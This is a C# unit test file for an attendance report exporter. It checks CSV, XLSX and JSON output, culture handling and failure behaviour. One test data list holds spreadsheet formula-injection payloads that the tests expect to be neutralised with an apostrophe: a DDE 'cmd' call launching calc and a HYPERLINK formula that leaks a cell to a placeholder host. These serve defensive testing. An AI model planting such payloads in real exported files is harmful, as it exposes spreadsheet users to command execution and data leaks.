using System.Globalization;
using System.Text;
using System.Text.Json;

namespace Frat.Tests.Reports;

/// <summary>How reports are written, whatever they say.</summary>
public sealed partial class ReportTests
{
    private static readonly DateOnly Date = new(2026, 11, 22);

    private static readonly ReportColumn[] Columns =
    [
        new("employee_id", "Employee ID", ReportCellKind.Text, 12),
        new("date", "Date", ReportCellKind.Date, 12),
        new("first_in", "First in", ReportCellKind.LocalTime, 20),
        new("at", "At (UTC)", ReportCellKind.Instant, 20),
        new("worked_hours", "Worked (hours)", ReportCellKind.Number, 12),
        new("worked", "Worked", ReportCellKind.Duration, 12),
        new("late", "Late", ReportCellKind.Flag, 8),
    ];

    // As a spreadsheet's user might be tricked: OWASP's list, full-width forms, and what hides the first character.
    public static TheoryData<string> Formulas =>
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1)",
        "＝1+1", "＋1", "－1", "＠SUM", " =1", "\u00A0=1", "\u200B=1", "\uFEFF=1", "-2+3+cmd|' /C calc'!A0", "−1",
    ];

    [Fact]
    public async Task Csv_EachKindOfValue_IsWrittenForProgramsAndSpreadsheets()
    {
        var csv = await CsvAsync([Row("E-1")], [Row("total")]);

        csv.ShouldBe(
            "employee_id,date,first_in,at,worked_hours,worked,late\r\n"
            + "E-1,2026-11-22,2026-11-22 07:58:01,2026-11-22T06:58:01.250Z,162.5083,162:31,true\r\n"
            + "total,2026-11-22,2026-11-22 07:58:01,2026-11-22T06:58:01.250Z,162.5083,162:31,true\r\n");
    }

    [Theory]
    [InlineData("de-DE")]
    [InlineData("fa-IR")]
    [InlineData("th-TH")]
    public async Task Csv_UnderAnyCulture_IsTheSame(string culture)
    {
        var expected = await CsvAsync([Row("E-1"), Numbers()]);
        var before = CultureInfo.CurrentCulture;
        CultureInfo.CurrentCulture = new CultureInfo(culture);
        try
        {
            (await CsvAsync([Row("E-1"), Numbers()])).ShouldBe(expected);
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task Csv_TextThatBeginsAFormula_GetsAnApostrophe(string text)
    {
        var fields = Parse(await CsvAsync([Row(text)]))[1];

        fields[0].ShouldStartWith("'");
        fields[0][1..].ShouldBe(text);
    }

    [Fact]
    public async Task Csv_NegativeNumbers_StayNumbers() =>
        Parse(await CsvAsync([Numbers()]))[1].ShouldBe(["O'Brien - =1", "", "", "", "-1.5", "-0:01", "false"]);

    [Theory]
    [InlineData("a,b")]
    [InlineData("a\"b\"")]
    [InlineData("\"=1\"")]
    [InlineData("two\r\nlines")]
    [InlineData(" a ")]
    [InlineData("محمد الخوارزمي")]
    [InlineData("山田 太郎")]
    public async Task Csv_AnyText_ComesBackAsItWas(string text) => Parse(await CsvAsync([Row(text)]))[1][0].ShouldBe(text);

    [Fact]
    public async Task Csv_ByteOrderMark_IsWrittenWhereItIsAskedFor()
    {
        byte[] mark = [0xEF, 0xBB, 0xBF];

        var with = await WriteAsync(Of([Row("Zoë")]), ReportFormat.Csv, new ReportOptions { ByteOrderMark = true });
        var without = await WriteAsync(Of([Row("Zoë")]), ReportFormat.Csv);

        with.ShouldBe([.. mark, .. without]);
        without[..3].ShouldNotBe(mark);
    }

    [Fact]
    public async Task Csv_OfNothing_HasTheHeading()
    {
        (await CsvAsync([])).ShouldBe("employee_id,date,first_in,at,worked_hours,worked,late\r\n");
        (await WriteAsync(Of([]), ReportFormat.Csv, new ReportOptions { ByteOrderMark = true }))[..3].ShouldBe([0xEF, 0xBB, 0xBF]);
    }

    [Fact]
    public async Task Json_EachKindOfValue_HasItsType()
    {
        var json = JsonDocument.Parse(await WriteAsync(Of([Row("=1"), Numbers()], [Row("total")]), ReportFormat.Json)).RootElement;

        json.GetProperty("report").GetString().ShouldBe("test");
        json.GetProperty("from").GetString().ShouldBe("2026-11-22");
        json.GetProperty("rows")[0].GetRawText().ShouldBe(
            """{"employeeId":"=1","date":"2026-11-22","firstIn":"2026-11-22T07:58:01","at":"2026-11-22T06:58:01.250Z","""
            + "\"workedHours\":162.5083,\"worked\":\"162:31\",\"late\":true}");
        json.GetProperty("rows")[1].GetProperty("date").ValueKind.ShouldBe(JsonValueKind.Null);
        json.GetProperty("totals").GetProperty("employeeId").GetString().ShouldBe("total");
    }

    [Theory]
    [InlineData(ReportFormat.Csv)]
    [InlineData(ReportFormat.Xlsx)]
    [InlineData(ReportFormat.Json)]
    public async Task Write_ToAStreamThatRefusesToBlock_WritesAsynchronously(ReportFormat format)
    {
        using var output = new AsyncOnlyStream();

        var count = await Of([.. Enumerable.Range(0, 20_000).Select(i => Row($"E-{i}"))]).WriteAsync(output, format);

        (count, output.Largest).ShouldBe((20_000, output.Largest));
        output.Length.ShouldBeGreaterThan(100_000);
        output.Largest.ShouldBeLessThan(300_000);
    }

    [Theory]
    [InlineData(ReportFormat.Csv)]
    [InlineData(ReportFormat.Xlsx)]
    [InlineData(ReportFormat.Json)]
    public async Task Write_StoreFailsAtOnce_HasWrittenNothing(ReportFormat format)
    {
        using var output = new MemoryStream();

        await Should.ThrowAsync<StoreException>(() => Failing(after: 0).WriteAsync(output, format));

        output.Length.ShouldBe(0);
    }

    [Theory]
    [InlineData(ReportFormat.Csv)]
    [InlineData(ReportFormat.Xlsx)]
    [InlineData(ReportFormat.Json)]
    public async Task Write_StoreFailsInTheMiddle_DoesNotLookWhole(ReportFormat format)
    {
        using var output = new MemoryStream();

        await Should.ThrowAsync<StoreException>(() => Failing(after: 20_000).WriteAsync(output, format));

        if (format == ReportFormat.Json)
        {
            Should.Throw<JsonException>(() => JsonDocument.Parse(output.ToArray()));
        }
        else if (format == ReportFormat.Xlsx)
        {
            Should.Throw<InvalidDataException>(() => new Workbook(output.ToArray()));
        }
    }

    [Fact]
    public void FileName_OfASpan_NamesBothDates()
    {
        var report = new Report("attendance-days", "Days", Date, Date.AddDays(8), Columns, _ => throw new InvalidOperationException());

        report.FileNameOf(ReportFormat.Xlsx).ShouldBe("attendance-days-2026-11-22-to-2026-11-30.xlsx");
        new Report("punches", "Punches", Date, Date, Columns, _ => throw new InvalidOperationException()).FileNameOf(ReportFormat.Csv)
            .ShouldBe("punches-2026-11-22.csv");
    }

    private static ReportCell[] Row(string text) =>
    [
        ReportCell.Of(text), ReportCell.Of(Date), ReportCell.Local(new DateTime(2026, 11, 22, 7, 58, 1)),
        ReportCell.Instant(new DateTimeOffset(2026, 11, 22, 7, 58, 1, 250, TimeSpan.FromHours(1))),
        ReportCell.Hours(new TimeSpan(162, 30, 30)), ReportCell.Of(new TimeSpan(162, 30, 30)), ReportCell.Of(true),
    ];

    private static ReportCell[] Numbers() =>
        [
            ReportCell.Of("O'Brien - =1"),
            default,
            default,
            default,
            ReportCell.Of(-1.5),
            ReportCell.Of(TimeSpan.FromMinutes(-1)),
            ReportCell.Of(false)
        ];

    private static Report Of(ReportCell[][] rows, ReportCell[][]? totals = null) =>
        new(
            "test",
            "Test",
            Date,
            Date,
            Columns,
            _ => rows.ToAsyncEnumerable(),
            totals is null ? null : () => new ReportTotals(totals[0], Columns, totals[0]));

    private static Report Failing(int after) => new("test", "Test", Date, Date, Columns, _ => RowsAsync(after));

    private static async IAsyncEnumerable<ReportCell[]> RowsAsync(int after)
    {
        for (var i = 0; i < after; i++)
        {
            yield return Row($"E-{i}");
        }

        await Task.CompletedTask;
        throw new StoreException("ReadDays", isTransient: true, "The disk is gone.");
    }

    private static async Task<byte[]> WriteAsync(Report report, ReportFormat format, ReportOptions? options = null)
    {
        using var output = new MemoryStream();
        await report.WriteAsync(output, format, options);
        return output.ToArray();
    }

    private static async Task<string> CsvAsync(ReportCell[][] rows, ReportCell[][]? totals = null) =>
        Encoding.UTF8.GetString(await WriteAsync(Of(rows, totals), ReportFormat.Csv));

    private static List<string[]> Parse(string csv)
    {
        using var parser = new CsvHelper.CsvParser(new StringReader(csv), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (parser.Read())
        {
            rows.Add(parser.Record!);
        }

        return rows;
    }
}
